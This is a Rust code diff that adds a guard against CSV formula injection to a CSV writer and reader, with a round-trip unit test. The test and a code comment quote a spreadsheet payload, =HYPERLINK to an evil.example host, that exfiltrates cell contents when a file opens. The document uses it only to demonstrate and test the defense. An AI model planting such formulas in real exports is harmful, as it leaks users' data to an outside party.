@@ -226,7 +226,10 @@ fn read_csv(bytes: &[u8], max_rows: usize) -> Result<Vec<(usize, Vec<String>)>, 
     }
     let mut out = Vec::new();
     for (row, fields) in csv_records(&text) {
-        let mut cells: Vec<String> = fields.iter().map(|c| c.trim().to_string()).collect();
+        let mut cells: Vec<String> = fields
+            .iter()
+            .map(|c| without_formula_guard(c.trim()).to_string())
+            .collect();
         while cells.last().is_some_and(String::is_empty) {
             cells.pop();
         }
@@ -348,9 +351,31 @@ pub fn write_csv(headers: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
     // Writing into a Vec cannot fail.
     let _ = writer.write_record(headers);
     for row in rows {
-        let _ = writer.write_record(row);
+        let _ = writer.write_record(row.iter().map(|c| with_formula_guard(c).into_owned()));
     }
     writer.into_inner().unwrap_or_default()
+}
+
+/// Characters that make Excel, WPS or LibreOffice run a CSV cell as a formula (CSV injection:
+/// `=HYPERLINK("http://…"&A1)` sends data away when the file is opened).
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell that a spreadsheet would run as a formula, written with a leading `'` (shown as
+/// text, and taken off again by [`read_table`]). Plain numbers such as `-3` are left alone.
+fn with_formula_guard(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_START) && cell.trim().parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The text of a cell written by [`with_formula_guard`].
+fn without_formula_guard(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) => rest,
+        _ => cell,
+    }
 }
 
 #[cfg(test)]
@@ -358,6 +383,22 @@ mod tests {
     use super::*;
 
     const ID: &str = "42010219900307001X";
+
+    #[test]
+    fn csv_cells_that_look_like_formulas_are_written_as_text_and_read_back() {
+        let headers = ["姓名", "备注", "数"];
+        let rows = vec![vec![
+            "=HYPERLINK(\"http://evil.example/\"&A1)".to_string(),
+            "@SUM(A1)".to_string(),
+            "-3".to_string(),
+        ]];
+        let bytes = write_csv(&headers, &rows);
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        assert!(text.contains("\"'=HYPERLINK("), "{text}");
+        assert!(text.contains(",'@SUM(A1),-3"), "{text}");
+        let table = read_table(&bytes, 10).unwrap();
+        assert_eq!(table.rows[0].1, rows[0]);
+    }
 
     fn sample() -> (Vec<&'static str>, Vec<Vec<String>>) {
         let headers = vec!["户号", "姓名", "身份证号", "备注"];
